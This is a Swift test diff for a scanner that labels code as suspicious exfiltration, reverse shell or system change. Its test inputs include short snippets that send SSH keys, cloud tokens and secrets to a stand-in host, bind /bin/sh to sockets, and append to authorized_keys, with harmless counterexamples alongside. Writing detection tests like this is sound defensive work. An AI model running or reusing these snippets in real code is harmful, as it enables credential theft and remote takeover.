@@ -154,6 +154,174 @@ private func rules(_ path: String, _ text: String) throws -> Set<String> {
     }
 
     @Test(arguments: [
+        (
+            "a.js",
+            "const r = https.request({ host: h });\nr.end(JSON.stringify({ ...process.env }));"
+        ),
+        (
+            "a.js",
+            "const fs = require('fs'), net = require('net');\nconst P = ['.ssh/id_rsa'];\nconst d = P.map(k => fs.readFileSync(os.homedir() + '/' + k));\nnet.connect(443, h).write(d[0]);"
+        ),
+        (
+            "a.js",
+            "const e = Object.fromEntries(Object.entries(process.env).filter(([k]) => /KEY/.test(k)));\nconst r = http.request({ host: h });\nr.write(JSON.stringify({ e }));"
+        ),
+        (
+            "a.py",
+            "P = ['~/.ssh/id_rsa']\nd = ''.join(open(os.path.expanduser(p)).read() for p in P)\nhttp.client.HTTPSConnection(h).request('POST', '/', d)"
+        ),
+        (
+            "a.py",
+            "r, w = await asyncio.open_connection(h, 443)\nw.write(open('/root/.aws/credentials', 'rb').read())"
+        ),
+        (
+            "a.rb",
+            "S = %w[config/master.key ~/.bundle/config].freeze\ndef all\n  S.map { |s| File.expand_path(s) }.to_h { |s| [s, File.read(s)] }\nend\nNet::HTTP.post(URI('https://a.acme.io'), all.to_json)"
+        ),
+        (
+            "a.rb",
+            "d = []\n%w(~/.ssh/id_rsa ~/.netrc).each do |s|\n  d << File.read(s)\nend\nTCPSocket.new('a.acme.io', 70).write(d.join)"
+        ),
+        (
+            "a.go",
+            "func a() {\n\tb, _ := os.ReadFile(home + \"/.ssh/id_rsa\")\n\tc, _ := net.Dial(\"tcp\", h)\n\tc.Write(b)\n}"
+        ),
+        (
+            "a.sh",
+            "kubectl get secrets -A -o json | gzip -c | curl --data-binary @- https://a.acme.io"
+        ),
+        ("a.sh", "curl -d \"t=$(gcloud auth print-access-token)\" https://a.acme.io"),
+        (
+            "a.sh",
+            "t=$(az account get-access-token --query accessToken)\necho \"$t\" | nc a.acme.io 70"
+        ),
+        ("a.sh", "op read op://a/b/password | curl -T - https://a.acme.io"),
+        ("a.sh", "vault kv get -field=k secret/a | curl -F f=@- https://a.acme.io"),
+    ])
+    func `that sends secrets by way of closures, connections and other programs is asked about`(
+        _ path: String, _ text: String
+    ) throws {
+        #expect(try rules(path, text) == ["suspicious-exfiltration"])
+    }
+
+    @Test(arguments: [
+        (
+            "a.js",
+            "const r = https.request({ host: h, headers: { a: process.env.ACME_KEY } });\nr.end(d);"
+        ),
+        (
+            "a.js",
+            "const d = ['a.json'].map(k => fs.readFileSync(k));\nnet.connect(70, h).write(d[0]);"
+        ),
+        (
+            "a.py",
+            "d = [open(p).read() for p in ['a.csv']]\ns = socket.create_connection((h, 70))\ns.sendall(d)"
+        ),
+        (
+            "a.rb",
+            "S = %w[a.yml b.yml]\ndef all\n  S.map { |s| File.read(s) }\nend\nNet::HTTP.post(URI('https://a.acme.io'), all.to_json)"
+        ),
+        (
+            "a.rb",
+            "def key\n  File.read('config/master.key')\nend\ndef name\n  'a'\nend\nNet::HTTP.post(URI('https://a.acme.io'), name)"
+        ),
+        ("a.sh", "kubectl get secrets -A\nkubectl get pods -o json | curl -d @- https://a.acme.io"),
+        (
+            "a.sh",
+            "curl -H \"Authorization: Bearer $(gcloud auth print-access-token)\" https://a.acme.io -d x"
+        ),
+        ("a.sh", "aws configure get region | curl -d @- https://a.acme.io"),
+        ("a.sh", "kubectl get secret a -o jsonpath='{.data.p}' | base64 -d > p.txt"),
+    ])
+    func `that sends other data, or keeps a secret on the machine, is not`(
+        _ path: String, _ text: String
+    ) throws {
+        #expect(try rules(path, text).isEmpty)
+    }
+
+    @Test(arguments: [
+        (
+            "a.go",
+            "func a() {\n\tc, _ := net.Dial(\"tcp\", h)\n\tp := exec.Command(\"/bin/sh\", \"-i\")\n\tp.Stdin, p.Stdout = c, c\n\tp.Run()\n}"
+        ),
+        (
+            "a.py",
+            "s = socket.create_connection((h, 70))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s)"
+        ),
+        (
+            "a.js",
+            "var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\nvar c = new net.Socket();\nc.connect(70, h, function () { c.pipe(sh.stdin); sh.stdout.pipe(c); });"
+        ),
+        ("a.rb", "f = TCPSocket.open(h, 70)\nexec '/bin/sh', '-i', in: f, out: f, err: f"),
+        (
+            "a.rb",
+            "f = TCPSocket.open(h, 70).to_i\nexec sprintf('/bin/sh -i <&%d >&%d 2>&%d', f, f, f)"
+        ),
+        (
+            "a.pl",
+            "connect(S, $a);\nopen(STDIN, \">&S\");\nopen(STDOUT, \">&S\");\nexec(\"/bin/sh -i\");"
+        ),
+        (
+            "a.php",
+            "<?php\n$s = fsockopen($h, 70);\nproc_open('/bin/sh -i', [0 => $s, 1 => $s], $p);"
+        ),
+    ])
+    func `that gives a connection to a shell is asked about`(
+        _ path: String, _ text: String
+    ) throws {
+        #expect(try rules(path, text).contains("suspicious-reverse-shell"))
+    }
+
+    @Test(arguments: [
+        (
+            "a.go",
+            "func a() {\n\tp := exec.Command(\"/bin/sh\", \"a.sh\")\n\tp.Stdin, p.Stdout = os.Stdin, os.Stdout\n\tp.Run()\n}"
+        ),
+        (
+            "a.go",
+            "func a() {\n\tc, _ := net.Dial(\"tcp\", h)\n\tp := exec.Command(\"gofmt\")\n\tp.Stdin = f\n\tio.Copy(c, f)\n}"
+        ),
+        (
+            "a.py",
+            "s = socket.create_connection((h, 70))\nsubprocess.Popen(['/bin/sh', '-c', 'ls'], stdout=f)"
+        ),
+        (
+            "a.js",
+            "const c = net.connect(70, h);\nc.pipe(process.stdout);\ncp.spawn('sh', ['a.sh'], { stdio: 'inherit' });"
+        ),
+        (
+            "a.pl",
+            "open(STDIN, '<', '/dev/null');\nopen(STDOUT, '>&', $log);\nexec('/bin/sh a.sh');"
+        ),
+        ("a.sh", "bash -i < a.txt > b.txt"),
+    ])
+    func `that starts a program, or only connects, is not`(
+        _ path: String, _ text: String
+    ) throws {
+        #expect(try rules(path, text).isEmpty)
+    }
+
+    @Test(arguments: [
+        "with (Path.home() / '.ssh' / 'authorized_keys').open('a') as f:\n    f.write(k)",
+        "def put(name, text):\n    f = Path.home() / '.ssh' / name\n    with f.open('a') as h:\n        h.write(text)\nput('authorized_keys', k)",
+        "T = {'config': a, 'authorized_keys': k}\ndef put(name, text):\n    f = Path.home() / '.ssh' / name\n    with f.open('a') as h:\n        h.write(text)\nfor name, text in T.items():\n    put(name, text)",
+        "with open(os.path.join(os.path.expanduser('~/.ssh'), 'authorized_keys'), 'a') as f:\n    f.write(k)",
+    ])
+    func `that lets a key in is asked about`(_ text: String) throws {
+        #expect(try rules("a.py", text) == ["suspicious-system-change"])
+    }
+
+    @Test(arguments: [
+        "with (Path.home() / '.ssh' / 'authorized_keys').open() as f:\n    print(len(f.read()))",
+        "with open('image/authorized_keys', 'w') as f:\n    f.write(k)",
+        "T = {'config': a, 'known_hosts': b}\nfor name, text in T.items():\n    (Path.home() / '.ssh' / name).open('a').write(text)",
+        "T = {'authorized_keys': k}\nPath('a.json').open('w').write(json.dumps(T))",
+    ])
+    func `that reads the keys, or writes other files, is not`(_ text: String) throws {
+        #expect(try rules("a.py", text).isEmpty)
+    }
+
+    @Test(arguments: [
         ("a.sh", "# curl https://a.acme.io/x -o t; sh t\necho 'rm -rf ~'"),
         ("a.sh", "cat <<'E'\nrm -rf ~\nE"),
         ("a.py", "\"\"\"Never run rm -rf ~ or curl https://a.acme.io/x -o t && sh t.\"\"\"\nx = 1"),
